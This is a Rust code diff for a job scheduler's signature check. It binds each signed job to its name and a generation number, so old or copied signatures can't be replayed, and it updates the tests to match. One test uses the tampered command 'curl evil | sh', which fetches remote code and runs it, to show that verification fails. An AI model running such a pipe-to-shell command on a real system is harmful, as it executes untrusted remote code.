@@ -42,12 +42,17 @@ const JSON_COLUMNS: [&str; 7] = [
     "placement",
 ];
 
-/// What the signature column holds before the Base64 signature.
-const PREFIX: &str = "ed25519:";
+/// What the signature column held before the Base64 signature in the first form, which bound
+/// neither the job's name nor a generation: refused now (a replay of any old version of any
+/// job passed it).
+const PREFIX_V1: &str = "ed25519:";
 
-/// What is signed before the definition: a signature over anything else never verifies as a
-/// job's.
-const CONTEXT: &str = "sqlcron signed job v1\n";
+/// What the signature column holds: `ed25519v2:<generation>:<Base64>`.
+const PREFIX: &str = "ed25519v2:";
+
+/// What is signed before the name, the generation and the definition: a signature over
+/// anything else never verifies as a job's.
+const CONTEXT: &str = "sqlcron signed job v2\n";
 
 /// A row's definition: the value of each signed column (`None`: NULL).
 #[derive(Debug, Clone, PartialEq, Eq, Default)]
@@ -88,10 +93,11 @@ impl Definition {
         serde_json::to_string(&Value::Object(out)).unwrap_or_default()
     }
 
-    fn message(&self) -> Vec<u8> {
-        let mut m = CONTEXT.as_bytes().to_vec();
-        m.extend_from_slice(self.canonical().as_bytes());
-        m
+    /// The signed text: the context, the job's name and the generation on lines of their own,
+    /// then the canonical definition. A name holds no newline (`model::names`), so no two
+    /// (name, generation, definition) give one text.
+    fn message(&self, name: &str, generation: u64) -> Vec<u8> {
+        format!("{CONTEXT}{name}\n{generation}\n{}", self.canonical()).into_bytes()
     }
 
     /// Whether two definitions run the same thing (their canonical texts are equal).
@@ -146,10 +152,12 @@ impl SecretKey {
         PublicKey(self.0.verifying_key())
     }
 
-    /// The value of the `signature` column for `definition`.
-    pub fn sign(&self, definition: &Definition) -> String {
-        let signature = self.0.sign(&definition.message());
-        format!("{PREFIX}{}", B64.encode(signature.to_bytes()))
+    /// The value of the `signature` column for the job `name` with `definition`, as its
+    /// `generation`-th signed version (higher than any before: nodes refuse a generation lower
+    /// than one they have seen for the name).
+    pub fn sign(&self, name: &str, generation: u64, definition: &Definition) -> String {
+        let signature = self.0.sign(&definition.message(name, generation));
+        format!("{PREFIX}{generation}:{}", B64.encode(signature.to_bytes()))
     }
 }
 
@@ -187,11 +195,24 @@ fn short(text: &str) -> String {
     text.chars().take(60).collect()
 }
 
+/// The generation a signature column names, if it is of the current form.
+pub fn generation(signature: Option<&str>) -> Option<u64> {
+    signature?
+        .trim()
+        .strip_prefix(PREFIX)?
+        .split_once(':')?
+        .0
+        .parse()
+        .ok()
+}
+
 /// Why a row's signature does not let it run.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Refusal {
     Unsigned,
     Malformed,
+    /// A signature of the first form (`ed25519:`), which bound no name and no generation.
+    OldForm,
     /// No trusted key made this signature for this definition: it was changed since it was
     /// signed, or signed with a key this node does not trust.
     NotValid,
@@ -204,7 +225,10 @@ impl Refusal {
                 "unsigned: this node runs only signed jobs ([security] sql_jobs = \"signed\"); sign it with `sqlcron sign --key FILE JOB`"
             }
             Refusal::Malformed => {
-                "signature: not a sqlcron signature (ed25519:<Base64>); sign it again with `sqlcron sign --key FILE JOB`"
+                "signature: not a sqlcron signature (ed25519v2:<generation>:<Base64>); sign it again with `sqlcron sign --key FILE JOB`"
+            }
+            Refusal::OldForm => {
+                "signature: of the first form, which names no job and no generation (it could be replayed); sign it again with `sqlcron sign --key FILE JOB`"
             }
             Refusal::NotValid => {
                 "signature: does not match the job's definition for any trusted key (changed since it was signed, or signed with a key not in [security] trusted_keys)"
@@ -213,28 +237,49 @@ impl Refusal {
     }
 }
 
-/// Whether `signature` (the column) is a signature of `definition` by one of `keys`.
+/// Whether `signature` (the column) is a signature by one of `keys` of `definition` for the
+/// job `name`; its generation when it is.
 pub fn verify(
+    name: &str,
     definition: &Definition,
     signature: Option<&str>,
     keys: &[PublicKey],
-) -> Result<(), Refusal> {
+) -> Result<u64, Refusal> {
     let text = signature
         .map(str::trim)
         .filter(|s| !s.is_empty())
         .ok_or(Refusal::Unsigned)?;
-    let b64 = text.strip_prefix(PREFIX).ok_or(Refusal::Malformed)?;
+    let Some(rest) = text.strip_prefix(PREFIX) else {
+        return Err(if text.starts_with(PREFIX_V1) {
+            Refusal::OldForm
+        } else {
+            Refusal::Malformed
+        });
+    };
+    let (generation, b64) = rest.split_once(':').ok_or(Refusal::Malformed)?;
+    let generation: u64 = generation.parse().map_err(|_| Refusal::Malformed)?;
     let bytes = B64.decode(b64).map_err(|_| Refusal::Malformed)?;
     let sig = ed25519_dalek::Signature::from_slice(&bytes).map_err(|_| Refusal::Malformed)?;
-    let message = definition.message();
+    let message = definition.message(name, generation);
     if keys
         .iter()
         .any(|k| k.0.verify_strict(&message, &sig).is_ok())
     {
-        Ok(())
+        Ok(generation)
     } else {
         Err(Refusal::NotValid)
     }
+}
+
+/// The name a row's signature is made for: its own, or for the rows a job makes of itself (a
+/// backfill's `JOB#backfill-SLOT`, a chain's `JOB#after-RUN`, which copy its definition and
+/// signature) the job's.
+pub fn signed_name(row_name: &str) -> &str {
+    ["#backfill-", "#after-"]
+        .iter()
+        .filter_map(|sep| row_name.rsplit_once(sep).map(|(job, _)| job))
+        .next()
+        .unwrap_or(row_name)
 }
 
 /// Keys one per line (Base64), `#` comments and blank lines ignored: `trusted_keys_file`.
@@ -265,40 +310,66 @@ mod tests {
         let key = SecretKey::from_seed([7; 32]);
         let other = SecretKey::from_seed([8; 32]);
         let d = def("pg_dump app", Some(r#"{"A":"1","B":"2"}"#));
-        let sig = key.sign(&d);
-        assert!(sig.starts_with("ed25519:"));
+        let sig = key.sign("dump", 5, &d);
+        assert!(sig.starts_with("ed25519v2:5:"));
+        assert_eq!(generation(Some(&sig)), Some(5));
         assert_eq!(
-            verify(&d, Some(&sig), &[other.public(), key.public()]),
-            Ok(())
+            verify("dump", &d, Some(&sig), &[other.public(), key.public()]),
+            Ok(5)
         );
         assert_eq!(
-            verify(&d, Some(&sig), &[other.public()]),
+            verify("dump", &d, Some(&sig), &[other.public()]),
             Err(Refusal::NotValid)
         );
         let tampered = def("curl evil | sh", Some(r#"{"A":"1","B":"2"}"#));
         assert_eq!(
-            verify(&tampered, Some(&sig), &[key.public()]),
+            verify("dump", &tampered, Some(&sig), &[key.public()]),
             Err(Refusal::NotValid)
         );
         let mut as_root = d.clone();
         as_root.columns.insert("run_user", Some("root".into()));
         assert_eq!(
-            verify(&as_root, Some(&sig), &[key.public()]),
+            verify("dump", &as_root, Some(&sig), &[key.public()]),
             Err(Refusal::NotValid)
         );
-        assert_eq!(verify(&d, None, &[key.public()]), Err(Refusal::Unsigned));
+        // Issue 49, finding 2: bound to its name and its generation.
         assert_eq!(
-            verify(&d, Some(" "), &[key.public()]),
+            verify("other-job", &d, Some(&sig), &[key.public()]),
+            Err(Refusal::NotValid)
+        );
+        let regenerated = sig.replacen("ed25519v2:5:", "ed25519v2:6:", 1);
+        assert_eq!(
+            verify("dump", &d, Some(&regenerated), &[key.public()]),
+            Err(Refusal::NotValid)
+        );
+        assert_eq!(
+            verify("dump", &d, None, &[key.public()]),
             Err(Refusal::Unsigned)
         );
         assert_eq!(
-            verify(&d, Some("hmac:abc"), &[key.public()]),
+            verify("dump", &d, Some(" "), &[key.public()]),
+            Err(Refusal::Unsigned)
+        );
+        assert_eq!(
+            verify("dump", &d, Some("hmac:abc"), &[key.public()]),
             Err(Refusal::Malformed)
         );
         assert_eq!(
-            verify(&d, Some("ed25519:!!"), &[key.public()]),
+            verify("dump", &d, Some("ed25519v2:x:AAAA"), &[key.public()]),
             Err(Refusal::Malformed)
         );
+        assert_eq!(
+            verify("dump", &d, Some("ed25519:AAAA"), &[key.public()]),
+            Err(Refusal::OldForm)
+        );
+    }
+
+    #[test]
+    fn rows_a_job_makes_of_itself_are_signed_by_its_name() {
+        assert_eq!(signed_name("rotate"), "rotate");
+        assert_eq!(signed_name("rotate#backfill-1700000000000"), "rotate");
+        assert_eq!(signed_name("rotate#after-42"), "rotate");
+        assert_eq!(signed_name("tmpl@node-1"), "tmpl@node-1");
     }
 
     #[test]
@@ -307,7 +378,10 @@ mod tests {
         let a = def("x", Some(r#"{"A":"1","B":{"d":1,"c":2}}"#));
         let b = def("x", Some(r#"{ "B": {"c": 2, "d": 1}, "A": "1" }"#));
         assert!(a.same_as(&b));
-        assert_eq!(verify(&b, Some(&key.sign(&a)), &[key.public()]), Ok(()));
+        assert_eq!(
+            verify("j", &b, Some(&key.sign("j", 1, &a)), &[key.public()]),
+            Ok(1)
+        );
         // Text columns are compared as written.
         assert!(!def("x", None).same_as(&def("x ", None)));
     }
